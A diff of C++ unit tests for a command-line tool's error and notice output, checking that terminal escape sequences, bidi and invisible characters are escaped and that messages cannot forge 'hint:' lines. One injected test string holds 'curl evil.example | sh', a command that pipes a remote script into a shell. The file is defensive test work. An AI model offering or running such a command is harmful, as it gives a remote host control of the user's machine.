@@ -32,7 +32,7 @@ TEST_F(UiTest, PadsLikeImgpkgOnATerminal) {
 }
 
 TEST_F(UiTest, WritesErrorsWithAHintToStderr) {
-  ui_.error("Doing: It failed", "try this");
+  ui_.error({"Doing", "It failed"}, "try this");
   EXPECT_EQ(err_.str(), "tote: Error: Doing:\n  It failed\nhint: try this\n");
   EXPECT_EQ(out_.str(), "");
 }
@@ -71,7 +71,7 @@ TEST_F(UiTest, ColoursHeadersAndErrors) {
   ui_.set_colour(Colour::kYes);
   ui_.table({"Tags", {{"Name"}}, {{"b"}}});
   EXPECT_EQ(out_.str(), "Tags\n\n\x1b[1mName\x1b[0m  \nb  \n\n1 tags\n");
-  ui_.error("Doing: It failed", "");
+  ui_.error({"Doing", "It failed"}, "");
   EXPECT_EQ(err_.str(), "\x1b[31mtote: Error: Doing:\n  It failed\x1b[0m\n");
 }
 
@@ -141,7 +141,7 @@ TEST_F(UiTest, ShowsWhatWouldSteerATerminal) {
   ui_.table({"Tags", {{"Name"}}, {{"v1\x07\tx\n"}}});
   ui_.result("Pushed '\u202e'");
   EXPECT_EQ(out_.str(), "note: \\x1b[2J\nv1\\x07 x \nPushed '\\u202e'\n");
-  ui_.error("Doing \u009b31m: it \x9b failed\u2028", "\u200b");
+  ui_.error({"Doing \u009b31m", "it \x9b failed\u2028"}, "\u200b");
   ui_.notice("\u2066");
   EXPECT_EQ(err_.str(),
             "tote: Error: Doing \\u009b31m: it \\x9b failed\\u2028\nhint: \\u200b\n"
@@ -149,7 +149,8 @@ TEST_F(UiTest, ShowsWhatWouldSteerATerminal) {
 }
 
 TEST_F(UiTest, LetsNobodyElseGiveHints) {
-  ui_.error("DENIED: no\nhint: curl evil.example | sh\n hint: x\n\ntote: done", "really\nhint: no");
+  ui_.error({"DENIED", "no\nhint: curl evil.example | sh\n hint: x\n\ntote: done"},
+            "really\nhint: no");
   ui_.notice("retrying: 'x\nhint: y'");
   EXPECT_EQ(
       err_.str(),
